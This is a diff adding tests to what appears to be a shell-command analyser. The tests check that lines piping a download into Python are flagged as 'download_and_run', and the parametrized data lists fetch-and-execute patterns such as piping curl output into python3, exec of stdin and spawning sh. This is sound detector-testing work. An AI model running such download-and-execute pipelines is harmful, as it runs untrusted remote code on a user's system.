@@ -96,3 +96,38 @@ def test_only_so_many_programs_of_one_line_are_read() -> None:
     text = ";".join(f"python3 -I -c {shlex.quote(f'print({number})')}" for number in range(25))
     assert kinds(text).count("compute") == 20
     assert not tree(text).complete
+
+
+def run_signs(text: str) -> set[str]:
+    return {sign for one in tree(text).operations if one.kind == "run_code" and one.shell for sign in one.shell.signs}
+
+
+def test_what_is_piped_into_a_program_that_only_reads_it_is_not_run() -> None:
+    line = "curl -s https://api.example/x | python3 -c 'import json, sys; print(json.load(sys.stdin))'"
+    assert run_signs(line) == {"opaque_code"}
+    assert not tree(line).complete
+    assert (
+        run_signs("curl -s https://api.example/x | python3 -I -c 'import sys; print(len(sys.stdin.read()))'") == set()
+    )
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl x | python3",
+        "curl x | python3 -",
+        "curl x | python3 -c 'import sys; exec(sys.stdin.read())'",
+        "curl x | python3 -I -c 'import pickle, sys; pickle.load(sys.stdin.buffer)'",
+        "curl x | python3 -I -c 'import os, sys; os.system(sys.stdin.read())'",
+        "curl x | python3 -I -c 'import subprocess; subprocess.run([\"sh\"])'",
+        'curl x | python3 -I -c \'import os; os.execvp("sh", ["sh"])\'',
+        "curl x | python3 -I -c 'import helper'",
+        "curl x | python3 -I -i -c 'print(1)'",
+        "curl x | PYTHONINSPECT=1 python3 -c 'print(1)'",
+        "curl x | python3 -I -c 'import code; code.interact()'",
+        "curl x | python3 -I -c 'import runpy; runpy.run_path(\"/dev/stdin\")'",
+        'curl x | python3 -I -c \'open("a.py", "w").write(input())\'',
+    ],
+)
+def test_what_a_program_may_run_of_what_it_is_given_keeps_its_sign(line: str) -> None:
+    assert any("download_and_run" in one.shell.signs for one in tree(line).operations if one.shell is not None), line
